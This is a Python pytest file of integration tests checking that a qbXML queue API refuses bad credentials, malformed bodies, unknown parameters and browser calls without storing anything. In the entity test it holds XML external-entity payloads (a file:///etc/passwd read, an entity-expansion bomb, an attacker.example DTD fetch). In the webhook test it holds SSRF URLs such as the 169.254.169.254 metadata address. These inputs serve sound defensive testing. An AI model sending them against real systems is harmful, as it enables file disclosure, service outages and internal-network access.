"""Bad input gets the contract's error, never a 500, and nothing is stored."""

from __future__ import annotations

import base64
import json
import re
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from domain.records.app import api_key_hash
from handlers.common.settings import Settings
from local.programs import ROOT
from tests.support.api_client import REQUEST_ID, ApiClient, basic
from tests.support.builders import CONNECTION_ID, REQUEST_XML
from tests.support.cases import for_each

if TYPE_CHECKING:
    from tests.integration.api.conftest import Deployment

NOBODYS_ID = "f0000000-0000-4000-8000-00000000000f"
QUERY = {"request": {"name": "CustomerQueryRq"}}
LISTED = f"/api/v1/connections/{CONNECTION_ID}/queued_requests"


def stored_ids(deployment: Deployment) -> list[str]:
    """Return the ids of all items of a list."""
    return [item["id"] for item in deployment.api.call("GET", LISTED).json["data"]]


# --- Credentials


@pytest.mark.parametrize(
    "header",
    [
        "Basic",
        "Basic ",
        "Basic !!!",
        "Basic é",
        "Basic " + base64.b64encode(b"no colon").decode(),
        "Basic " + base64.b64encode(b"\xff\xfe:").decode(),
        "Bearer sk_something",
        basic("sk_unknown"),
        basic(""),
    ],
)
def test_a_malformed_or_unknown_credential_is_refused(deployment: Deployment, header: str) -> None:
    response = deployment.api.call("GET", LISTED, headers={"Authorization": header})

    assert (response.status, response.code) == (401, "unauthorized")
    assert response.headers["WWW-Authenticate"] == 'Basic realm="qbxml-queue", charset="UTF-8"'


def test_no_credential_is_refused() -> None:
    response = ApiClient(None).call("GET", LISTED)

    assert (response.status, response.code) == (401, "unauthorized")


def test_a_key_with_a_password_is_refused(deployment: Deployment) -> None:
    response = deployment.api.call("GET", LISTED, headers={"Authorization": basic(deployment.api.key or "", "secret")})

    assert response.status == 401


def test_a_revoked_key_is_refused(deployment: Deployment) -> None:
    deployment.administration.revoke_key(api_key_hash(deployment.api.key or ""))

    assert deployment.api.call("GET", LISTED).status == 401


def test_the_scheme_may_be_written_in_any_case(deployment: Deployment) -> None:
    header = basic(deployment.api.key or "").replace("Basic", "bAsIc")

    assert deployment.api.call("GET", LISTED, headers={"Authorization": header}).status == 200


# --- Other tenants, and values that are not ids


@pytest.mark.parametrize(
    ("method", "suffix", "body"),
    [
        ("GET", "", None),
        ("DELETE", "", None),
        ("GET", "/qwc", None),
        ("POST", "/qwc", None),
        ("POST", "/password", {}),
        ("GET", "/customers", None),
        ("GET", "/vendors", None),
        ("GET", "/sales_orders", None),
        ("GET", "/invoices", None),
        ("GET", "/items", None),
        ("GET", "/queued_requests", None),
        ("POST", "/queued_requests", {"request_json": QUERY}),
    ],
)
def test_another_apps_connection_is_not_found(
    deployment: Deployment, method: str, suffix: str, body: dict[str, Any] | None
) -> None:
    anothers = deployment.stranger.call(method, f"/api/v1/connections/{CONNECTION_ID}{suffix}", body)
    nobodys = deployment.stranger.call(method, f"/api/v1/connections/{NOBODYS_ID}{suffix}", body)
    malformed = deployment.api.call(method, f"/api/v1/connections/12345{suffix}", body)
    upper_case = deployment.api.call(method, f"/api/v1/connections/{CONNECTION_ID.upper()}{suffix}", body)

    assert (anothers.status, anothers.code) == (404, "not_found")
    assert anothers.text == nobodys.text
    assert (malformed.status, malformed.code) == (404, "not_found")
    assert upper_case.status == 404
    assert stored_ids(deployment) == []


@pytest.mark.parametrize(
    ("method", "suffix"), [("GET", ""), ("DELETE", ""), ("POST", "/discard"), ("POST", "/redeliver")]
)
@pytest.mark.parametrize("prefix", ["", f"/connections/{CONNECTION_ID}"])
def test_another_apps_request_is_not_found(deployment: Deployment, method: str, suffix: str, prefix: str) -> None:
    request = deployment.api.call("POST", deployment.requests_url, {"request_json": QUERY}).json["data"]

    anothers = deployment.stranger.call(method, f"/api/v1{prefix}/queued_requests/{request['id']}{suffix}")
    nobodys = deployment.stranger.call(method, f"/api/v1{prefix}/queued_requests/{NOBODYS_ID}{suffix}")
    malformed = deployment.api.call(method, f"/api/v1{prefix}/queued_requests/{request['id']}0{suffix}")

    assert (anothers.status, anothers.code) == (404, "not_found")
    assert anothers.text == nobodys.text
    assert (malformed.status, malformed.code) == (404, "not_found")
    assert deployment.api.call("GET", f"/api/v1/queued_requests/{request['id']}").json["data"] == request | {
        "links": request["links"] | {"self": f"/api/v1/queued_requests/{request['id']}"}
    }


# --- Bodies


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{", {"field": "body", "line": 1, "column": 2}),
        ("", {"field": "body", "message": "is missing"}),
        ("request_xml=1", {"message": "is not JSON: Expecting value, not 'request_xml=1'", "line": 1, "column": 1}),
        ("[]", {"field": "body", "message": "must be a JSON object, not an array"}),
        (
            json.dumps([{"request_xml": REQUEST_XML}]),
            {"suggestion": 'Write {"requests": [ … ]} and send it to POST …/queued_requests/batch.'},
        ),
        ("null", {"field": "body"}),
        ('"text"', {"field": "body"}),
        ('{"request_json": NaN}', {"field": "body"}),
        ('{"request_json": ' + "9" * 5000 + "}", {"field": "body"}),
        ('{"request_json": ' + "[" * 100_000 + "]" * 100_000 + "}", {"field": "body"}),
        ('{"webhook_url": "\\ud800"}', {"field": "body"}),
    ],
)
def test_a_body_must_be_a_json_object(deployment: Deployment, text: str, problem: dict[str, Any]) -> None:
    response = deployment.api.call("POST", deployment.requests_url, text=text)

    assert (response.status, response.code) == (400, "invalid_request")
    assert response.problem | problem == response.problem
    assert stored_ids(deployment) == []


def test_a_body_that_is_not_utf8_is_refused(deployment: Deployment) -> None:
    response = deployment.api.call("POST", deployment.requests_url, data=b'{"request_xml": "\xff"}')

    assert (response.status, response.problem) == (400, {"field": "body", "message": "must be UTF-8"})


@pytest.mark.parametrize(
    "media_type", ["text/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"]
)
def test_a_body_of_another_type_is_refused(deployment: Deployment, media_type: str) -> None:
    response = deployment.api.call(
        "POST", deployment.requests_url, {"request_json": QUERY}, headers={"content-type": media_type}
    )

    assert (response.status, response.code) == (415, "unsupported_media_type")
    assert stored_ids(deployment) == []


@pytest.mark.parametrize("size", [1024 * 1024 + 1, 2 * 1024 * 1024])
def test_a_body_over_1_mib_is_refused(deployment: Deployment, size: int) -> None:
    text = json.dumps({"request_xml": REQUEST_XML}).ljust(size)

    as_text = deployment.api.call("POST", deployment.requests_url, text=text)
    as_bytes = deployment.api.call("POST", deployment.requests_url, data=text.encode())

    assert (as_text.status, as_text.code) == (413, "request_too_large")
    assert (as_bytes.status, as_bytes.code) == (413, "request_too_large")
    assert stored_ids(deployment) == []


def test_a_body_is_measured_in_bytes_not_in_characters(deployment: Deployment) -> None:
    text = json.dumps({"request_xml": "é" * 600_000}, ensure_ascii=False)

    assert deployment.api.call("POST", deployment.requests_url, text=text).status == 413


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"request_xml": 1}, "request_xml"),
        ({"request_xml": [REQUEST_XML]}, "request_xml"),
        ({"request_json": "CustomerQueryRq"}, "request_json"),
        ({"request_json": 5}, "request_json"),
        ({"request_json": {"request": "CustomerQueryRq"}}, "request_json"),
        ({"request_json": {"request": {"name": 5}}}, "request_json"),
        ({"request_json": QUERY, "webhook_url": 5}, "webhook_url"),
        ({"request_json": QUERY, "webhook_url": {}}, "webhook_url"),
        ({"queued_request": [], "request_json": QUERY}, "queued_request"),
    ],
)
def test_wrong_types_are_refused(deployment: Deployment, body: dict[str, Any], field: str) -> None:
    response = deployment.api.call("POST", deployment.requests_url, body)

    assert (response.status, response.code, response.problem["field"]) == (400, "invalid_request", field)
    assert stored_ids(deployment) == []


@pytest.mark.parametrize(
    ("path", "body", "suggestion"),
    [
        ("", {"request_xml": QUERY}, "Send JSON as request_json."),
        ("", {"request_xml": [QUERY]}, "Send JSON as request_json."),
        ("/batch", {"requests": [{"request_xml": QUERY}]}, "Send JSON as request_json."),
        ("/batch", {"requests": [{"name": "a", "request_json": QUERY}]}, "Did you mean ref?"),
        ("/batch", {"requests": [{"id": "a", "request_json": QUERY}]}, "Did you mean ref?"),
        ("", {"name": "CustomerQueryRq"}, 'Write it inside request_json: {"request_json": {"name": …}}.'),
    ],
)
def test_a_field_in_another_form_has_the_right_one(
    deployment: Deployment, path: str, body: dict[str, Any], suggestion: str
) -> None:
    response = deployment.api.call("POST", f"{deployment.requests_url}{path}", body)

    assert (response.status, response.problem["suggestion"]) == (400, suggestion)


@pytest.mark.parametrize("wrapped", [False, True])
def test_an_unknown_field_is_refused_with_the_nearest(deployment: Deployment, *, wrapped: bool) -> None:
    body: dict[str, Any] = {"request_json": QUERY, "webhook_ulr": "https://shop.example/hook"}

    response = deployment.api.call("POST", deployment.requests_url, {"queued_request": body} if wrapped else body)

    assert response.status == 400
    assert response.problem == {
        "field": "webhook_ulr",
        "message": "is not a field of this endpoint",
        "suggestion": "Did you mean webhook_url?",
    }
    assert stored_ids(deployment) == []


@pytest.mark.parametrize("body", [{}, {"webhook_url": None}, {"request_xml": None, "request_json": None}])
def test_a_body_without_a_request_is_refused(deployment: Deployment, body: dict[str, Any]) -> None:
    response = deployment.api.call("POST", deployment.requests_url, body)

    assert (response.status, response.code) == (400, "invalid_request")


def test_two_forms_that_differ_are_refused(deployment: Deployment) -> None:
    response = deployment.api.call("POST", deployment.requests_url, {"request_json": QUERY, "request_xml": REQUEST_XML})

    assert (response.status, response.code) == (400, "invalid_request")
    assert stored_ids(deployment) == []


def test_two_request_elements_are_refused(deployment: Deployment) -> None:
    xml = '<QBXML><QBXMLMsgsRq onError="stopOnError"><CustomerQueryRq/><VendorQueryRq/></QBXMLMsgsRq></QBXML>'

    response = deployment.api.call("POST", deployment.requests_url, {"request_xml": xml})

    assert (response.status, response.problem["field"]) == (400, "request_xml")
    assert stored_ids(deployment) == []


def test_malformed_xml_is_refused_with_line_and_column(deployment: Deployment) -> None:
    response = deployment.api.call(
        "POST", deployment.requests_url, {"request_xml": "<QBXML>\n  <QBXMLMsgsRq>\n</QBXML>"}
    )

    assert response.status == 400
    assert (response.problem["field"], response.problem["line"]) == ("request_xml", 3)
    assert response.problem["column"] > 0


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]>',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
        '<!DOCTYPE QBXML SYSTEM "http://attacker.example/x.dtd">',
    ],
)
def test_entities_and_document_types_are_refused(deployment: Deployment, prologue: str) -> None:
    response = deployment.api.call("POST", deployment.requests_url, {"request_xml": prologue + REQUEST_XML})

    assert (response.status, response.problem["field"]) == (400, "request_xml")
    assert stored_ids(deployment) == []


@pytest.mark.parametrize(
    "url",
    [
        "",
        "not a url",
        "/hook",
        "http://shop.example/hook",
        "ftp://shop.example/hook",
        "https://127.0.0.1/hook",
        "https://10.0.0.1/hook",
        "https://169.254.169.254/latest/meta-data/",
        "https://[::1]/hook",
        "https://localhost/hook",
        "https://shop.example:8443/hook",
        "https://user:secret@shop.example/hook",
        "https://shop.example/" + "x" * 2048,
    ],
)
@pytest.mark.parametrize("where", ["queued_requests", "customers", "connections"])
def test_an_invalid_or_forbidden_webhook_url_is_refused(deployment: Deployment, url: str, where: str) -> None:
    if where == "customers":
        path = f"/api/v1/connections/{CONNECTION_ID}/customers"
        response = deployment.api.call("GET", f"{path}?webhook_url={quote(url, safe='')}")
    elif where == "connections":
        response = deployment.api.call("POST", "/api/v1/connections", {"webhook_url": url})
    else:
        response = deployment.api.call("POST", deployment.requests_url, {"request_json": QUERY, "webhook_url": url})

    assert (response.status, response.code, response.problem["field"]) == (400, "invalid_request", "webhook_url")
    assert stored_ids(deployment) == []
    assert deployment.api.call("GET", "/api/v1/connections").json["total_pages"] == 1


def test_a_webhook_url_that_is_not_absolute_is_in_the_message(deployment: Deployment) -> None:
    url = "shop.example:8000/" + "x" * 100

    response = deployment.api.call("POST", deployment.requests_url, {"request_json": QUERY, "webhook_url": url})

    assert response.problem["message"].endswith(f"not '{url[:59]}…'")


@pytest.mark.parametrize("key", ["", "two words", "é", "x" * 256])
def test_an_invalid_idempotency_key_is_refused(deployment: Deployment, key: str) -> None:
    response = deployment.api.call(
        "POST", deployment.requests_url, {"request_json": QUERY}, headers={"Idempotency-Key": key}
    )

    assert (response.status, response.problem["field"]) == (400, "Idempotency-Key")
    assert stored_ids(deployment) == []


@pytest.mark.parametrize(
    "body",
    [
        {f"field{number}": 1 for number in range(60_000)},
        {"queued_request": {f"field{number}": 1 for number in range(60_000)}},
        {"x" * 1_000_000: 1},
        {"request_json": {"request": {"name": "CustomerQueryRq", "children": [{"name": "X" * 900_000, "text": "1"}]}}},
        {"request_json": {"request": {"name": "CustomerQueryRq", "children": [{"name": "X", "text": "1"}] * 20_000}}},
    ],
    ids=["unknown fields", "wrapped", "a long field", "a long element", "unknown elements"],
)
def test_an_error_lists_at_most_100_problems_with_short_texts(deployment: Deployment, body: dict[str, Any]) -> None:
    response = deployment.api.call("POST", deployment.requests_url, body)

    assert (response.status, response.code) == (400, "invalid_request")
    assert 1 <= len(response.json["error"]["details"]["problems"]) <= 100
    assert len(response.text) < 200_000


# --- Query parameters


@for_each(
    ("query", "field"),
    [
        ("page=0", "page"),
        ("page=-1", "page"),
        ("page=x", "page"),
        ("page=", "page"),
        ("page=1_0", "page"),
        ("page=1.0", "page"),
        ("page=%201", "page"),
        ("page=1.5", "page"),
        ("page=" + "9" * 5000, "page"),
        ("page=1&page=2", "page"),
        ("page_size=0", "page_size"),
        ("page_size=101", "page_size"),
        ("sort=id", "sort"),
        ("sort_direction=down", "sort_direction"),
        ("state=done", "state"),
        ("state=WAITING", "state"),
        ("webhook_state=", "webhook_state"),
        ("search_phrase=" + "x" * 201, "search_phrase"),
        ("pagesize=10", "pagesize"),
        ("state[]=waiting", "state[]"),
    ],
)
def test_wrong_and_unknown_list_parameters_are_refused_by_name(deployment: Deployment, query: str, field: str) -> None:
    response = deployment.api.call("GET", f"{LISTED}?{query}")

    assert (response.status, response.code, response.problem["field"]) == (400, "invalid_request", field)


@pytest.mark.parametrize("query", ["page=0", "page_size=101", "state=waiting"])
def test_the_list_of_connections_has_only_page_parameters(deployment: Deployment, query: str) -> None:
    response = deployment.api.call("GET", f"/api/v1/connections?{query}")

    assert (response.status, response.problem["field"]) == (400, query.split("=", maxsplit=1)[0])


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("customers?nmae=Ann", "nmae"),
        ("customers?max_returned=0", "max_returned"),
        ("customers?active=Sometimes", "active"),
        ("customers?include[]=Nmae", "include[]"),
        ("customers?iterate=perhaps", "iterate"),
        ("customers?request_id=" + "x" * 51, "request_id"),
        ("sales_orders?from_transaction_date=yesterday", "from_transaction_date"),
        ("items?include[]=Name", "include[]"),
    ],
)
def test_wrong_and_unknown_query_parameters_are_refused_by_name(deployment: Deployment, path: str, field: str) -> None:
    response = deployment.api.call("GET", f"/api/v1/connections/{CONNECTION_ID}/{path}")

    assert (response.status, response.code, response.problem["field"]) == (400, "invalid_request", field)
    assert stored_ids(deployment) == []


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", f"/api/v1/queued_requests/{NOBODYS_ID}?verbose=1"),
        ("DELETE", f"/api/v1/queued_requests/{NOBODYS_ID}?force=perhaps"),
        ("DELETE", f"/api/v1/queued_requests/{NOBODYS_ID}?froce=true"),
        ("POST", f"/api/v1/queued_requests/{NOBODYS_ID}/discard?force=true"),
        ("POST", "/api/v1/connections?name=x"),
        ("GET", f"/api/v1/connections/{CONNECTION_ID}?x=1"),
        ("DELETE", f"/api/v1/connections/{CONNECTION_ID}?force=true"),
    ],
)
def test_every_endpoint_refuses_unknown_parameters(deployment: Deployment, method: str, path: str) -> None:
    response = deployment.api.call(method, path)

    assert (response.status, response.code) == (400, "invalid_request")


# --- Read-only keys


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", LISTED),
        ("GET", f"/api/v1/connections/{CONNECTION_ID}/customers"),
        ("GET", f"/api/v1/connections/{CONNECTION_ID}/vendors"),
        ("GET", f"/api/v1/connections/{CONNECTION_ID}/sales_orders"),
        ("GET", f"/api/v1/connections/{CONNECTION_ID}/invoices"),
        ("GET", f"/api/v1/connections/{CONNECTION_ID}/items"),
        ("DELETE", f"/api/v1/queued_requests/{NOBODYS_ID}"),
        ("POST", f"/api/v1/queued_requests/{NOBODYS_ID}/discard"),
        ("POST", f"/api/v1/queued_requests/{NOBODYS_ID}/redeliver"),
        ("POST", "/api/v1/connections"),
        ("DELETE", f"/api/v1/connections/{CONNECTION_ID}"),
        ("POST", f"/api/v1/connections/{CONNECTION_ID}/password"),
    ],
)
def test_a_read_only_key_changes_nothing(deployment: Deployment, method: str, path: str) -> None:
    response = deployment.readonly.call(method, path, {"request_json": QUERY} if method == "POST" else None)

    assert (response.status, response.code) == (403, "forbidden")
    assert stored_ids(deployment) == []


def test_the_openapi_document_has_403_for_exactly_the_calls_that_a_read_only_key_may_not_make(
    deployment: Deployment,
) -> None:
    """The API reference in the console derives from it which calls it offers and which it confirms."""
    document = json.loads((ROOT / "docs" / "openapi.json").read_text(encoding="utf-8"))

    for path, operations in document["paths"].items():
        for method in operations.keys() & {"get", "post", "put", "patch", "delete"}:
            address = re.sub(r"\{\w+\}", NOBODYS_ID, path.replace("{connection_id}", CONNECTION_ID))
            response = deployment.readonly.call(method.upper(), address, {} if method in {"post", "patch"} else None)
            assert (response.status == 403) == ("403" in operations[method]["responses"]), f"{method} {path}"


@pytest.mark.parametrize(
    "path",
    [LISTED, "/api/v1/connections", f"/api/v1/connections/{CONNECTION_ID}", f"/api/v1/connections/{CONNECTION_ID}/qwc"],
)
def test_a_read_only_key_reads_stored_responses(deployment: Deployment, path: str) -> None:
    assert deployment.readonly.call("GET", path).status == 200


def test_a_read_only_key_sees_only_the_origin_of_webhook_urls(deployment: Deployment) -> None:
    deployment.api.call("PATCH", f"/api/v1/connections/{CONNECTION_ID}", {"webhook_url": "https://hooks.example/T0K3N"})
    body = {"request_xml": REQUEST_XML, "webhook_url": "https://hooks.example/T0K3N?key=secret"}
    request = deployment.api.call("POST", LISTED, body).json["data"]
    urls = (
        LISTED,
        f"/api/v1/queued_requests/{request['id']}",
        "/api/v1/connections",
        f"/api/v1/connections/{CONNECTION_ID}",
    )

    for url in urls:
        response = deployment.readonly.call("GET", url)
        assert "T0K3N" not in response.text
        assert "https://hooks.example/…" in response.text
        assert "T0K3N" in deployment.api.call("GET", url).text


# --- Our own faults


def test_a_fault_of_the_service_returns_only_the_request_id(
    deployment: Deployment, caplog: pytest.LogCaptureFixture
) -> None:
    deployment.services.settings = Settings({})

    response = deployment.api.call("POST", "/api/v1/connections", {"webhook_url": "https://shop.example/"})

    assert response.status == 500
    assert response.json["error"] == {
        "code": "internal_error",
        "message": "Something went wrong on our side. Please report details.request_id.",
        "details": {"request_id": REQUEST_ID},
    }
    fault = next(record for record in caplog.records if record.message == "fault")
    assert fault.exc_info
    assert vars(fault)["request_id"] == REQUEST_ID


# --- Calls of browsers ---------------------------------------------------------------------------------------------

ORIGINS = ("cross-site", "same-site", "same-origin", "none", "Same-Origin", "", "something new")
FOR_PEOPLE = ("people", "api_keys")
"""The beginnings of the calls that no API key may make."""
QUERIES = ("customers", "vendors", "sales_orders", "invoices", "items")


@pytest.mark.parametrize("origin", ORIGINS)
@pytest.mark.parametrize("name", ["Sec-Fetch-Site", "sec-fetch-site"])
def test_a_get_of_a_browser_queues_nothing(deployment: Deployment, name: str, origin: str) -> None:
    for query in QUERIES:
        path = f"/api/v1/connections/{CONNECTION_ID}/{query}"

        response = deployment.api.call("GET", f"{path}?webhook_url=https://a.example", headers={name: origin})

        assert (response.status, response.code) == (403, "browser_refused")
        assert f"POST {path}" in response.json["error"]["message"]
    assert stored_ids(deployment) == []


@pytest.mark.parametrize("query", QUERIES)
def test_a_get_of_a_program_still_queues(deployment: Deployment, query: str) -> None:
    url = f"/api/v1/connections/{CONNECTION_ID}/{query}?webhook_url=https://a.example"

    queued = [deployment.api.call("GET", url), deployment.api.call("POST", url, headers={"Sec-Fetch-Site": "none"})]

    assert [response.status for response in queued] == [202, 202]
    assert [response.json["data"]["webhook_url"] for response in queued] == ["https://a.example"] * 2
    assert len(stored_ids(deployment)) == 2


@pytest.mark.parametrize("origin", ORIGINS)
def test_a_browser_changes_something_only_from_a_page_of_the_service(deployment: Deployment, origin: str) -> None:
    document = json.loads((ROOT / "docs" / "openapi.json").read_text(encoding="utf-8"))
    is_own = origin.lower() in {"same-origin", "none"}

    for path, operations in document["paths"].items():
        for method in operations.keys() & {"get", "post", "put", "patch", "delete"}:
            if path.removeprefix("/api/v1/").startswith(FOR_PEOPLE):
                continue
            address = re.sub(r"\{\w+\}", NOBODYS_ID, path)
            body: dict[str, str] | None = {} if method in {"post", "patch"} else None
            response = deployment.api.call(method.upper(), address, body, headers={"Sec-Fetch-Site": origin})
            is_change = "403" in operations[method]["responses"]
            refused = is_change and (method == "get" or not is_own)
            assert (response.status == 403) == refused, f"{method} {path}"
